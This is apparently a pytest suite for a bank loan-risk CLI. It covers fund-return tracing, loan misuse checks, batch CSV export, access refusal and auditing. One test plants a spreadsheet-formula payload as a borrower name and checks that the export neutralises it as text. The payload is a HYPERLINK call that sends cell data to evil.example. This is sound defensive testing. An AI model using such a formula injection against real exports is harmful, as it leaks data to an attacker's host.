"""`jinyu risk return-flow | misuse | batch` against a throwaway SQLite store and the golden lake."""

from __future__ import annotations

import csv
import json
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker
from typer.testing import CliRunner

from jinyu.analytics import Lake
from jinyu.audit.models import AuditEntry
from jinyu.cli import app
from jinyu.config import get_settings
from jinyu.core import db, runtime
from jinyu.core.auth import SYSTEM, OrgKind, Role
from jinyu.models import metadata
from jinyu.party import service as party
from jinyu.party.schemas import ServiceAccountCreate
from jinyu.risk.models import RiskInquiry
from tests.fixtures.auth import PASSWORD, make_org, make_user

from .lake import golden_rows, write

runner = CliRunner()


@pytest.fixture
def store(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[sessionmaker[Session], str]]:
    url = f"sqlite:///{tmp_path / 'cli.sqlite3'}"
    monkeypatch.setenv("JINYU_DATA_DIR", str(tmp_path))
    monkeypatch.setenv("JINYU_DATABASE_URL", url)
    get_settings.cache_clear()
    engine = runtime.engine_for(url)
    metadata.create_all(engine)
    factory = db.make_sessionmaker(engine)
    with db.transaction(factory) as s:
        h1 = make_org(s, OrgKind.BANK_HEAD_OFFICE, code="H1")
        h2 = make_org(s, OrgKind.BANK_HEAD_OFFICE, code="H2")
        make_user(s, h1, Role.BANK_HQ_RISK, username="hq_risk")
        make_user(s, h2, Role.BANK_HQ_RISK, username="other_risk")
        key = party.create_service_account(
            s, SYSTEM, ServiceAccountCreate(name="batch job", org_id=h1.id, roles=[Role.BANK_HQ_RISK])
        ).api_key
    write(Lake(tmp_path / "lake"), golden_rows())
    yield factory, key
    engine.dispose()
    get_settings.cache_clear()


def _run(*args: str) -> tuple[int, str]:
    result = runner.invoke(app, ["risk", *args], input=f"{PASSWORD}\n")
    return result.exit_code, result.output


def test_return_flow_as_a_named_bank_user(store: tuple[sessionmaker[Session], str]) -> None:
    code, out = _run("return-flow", "L1", "--as-user", "hq_risk", "--password-stdin", "--json")
    assert code == 0, out
    body = json.loads(out)
    assert (body["verdict"], body["returned_amount"]) == ("risky", "295000.00")
    code, out = _run("return-flow", "L1", "--as-user", "hq_risk", "--password-stdin", "--policy", "fifo")
    assert code == 0, out
    assert "590000.00" in out and "先进先出" in out


def test_misuse_with_a_service_account(store: tuple[sessionmaker[Session], str]) -> None:
    code, out = _run("misuse", "L2", "--api-key", store[1], "--json")
    assert code == 0, out
    assert (
        json.loads(out)["misused_amount"] == "510000.00"
    )  # shell, other loan, 10,000 repaid through an intermediary


def test_another_banks_loan_is_refused_and_audited(store: tuple[sessionmaker[Session], str]) -> None:
    code, out = _run("return-flow", "L1", "--as-user", "other_risk", "--password-stdin")
    assert code == 1 and "贷款不存在" in out
    with store[0]() as s:
        refused = s.scalars(select(AuditEntry).where(AuditEntry.outcome == "not_found")).all()
        assert [e.action for e in refused] == ["risk.tracing.return_flow"]
        assert s.scalars(select(RiskInquiry)).all() == []


def test_wrong_password_and_missing_identity(store: tuple[sessionmaker[Session], str]) -> None:
    result = runner.invoke(
        app, ["risk", "return-flow", "L1", "--as-user", "hq_risk", "--password-stdin"], input="x\n"
    )
    assert result.exit_code == 1
    code, out = _run("return-flow", "L1")
    assert code == 1 and "--as-user" in out


def test_batch_with_csv(store: tuple[sessionmaker[Session], str], tmp_path: Path) -> None:
    target = tmp_path / "batch.csv"
    code, out = _run(
        "batch", "--from", "2024-03-01", "--to", "2024-03-31", "--as-user", "hq_risk", "--password-stdin",
        "--csv", str(target), "--all",
    )  # fmt: skip
    assert code == 0, out
    assert "L1" in out and "L2" in out
    lines = target.read_text(encoding="utf-8").splitlines()
    assert lines[0].startswith("loan_id,") and len(lines) == 3
    code, out = _run("batch", "--from", "2024-03-31", "--to", "2024-03-01", "--api-key", store[1])
    assert code == 1


def test_help_is_chinese_first_with_an_example() -> None:
    for command in ("return-flow", "misuse", "batch"):
        out = runner.invoke(app, ["risk", command, "--help"]).output
        assert "Example: jinyu risk" in out


def test_batch_csv_neutralises_formula_names(
    store: tuple[sessionmaker[Session], str], tmp_path: Path
) -> None:
    """A borrower registered as `=HYPERLINK(...)` is written as text, not as a formula a spreadsheet runs."""
    rows = golden_rows()
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    rows["enterprises"] = [
        {**e, "name": hostile} if e["name"] == "重庆借款科技有限公司" else e for e in rows["enterprises"]
    ]
    shutil.rmtree(tmp_path / "lake")
    write(Lake(tmp_path / "lake"), rows)
    target = tmp_path / "batch.csv"
    code, out = _run(
        "batch", "--from", "2024-03-01", "--to", "2024-03-31", "--as-user", "hq_risk", "--password-stdin",
        "--csv", str(target), "--all",
    )  # fmt: skip
    assert code == 0, out
    with target.open(encoding="utf-8", newline="") as fh:
        names = [r["borrower_name"] for r in csv.DictReader(fh)]
    assert "'" + hostile in names
    assert not any(n.startswith(("=", "+", "-", "@", "\t", "\r")) for n in names)
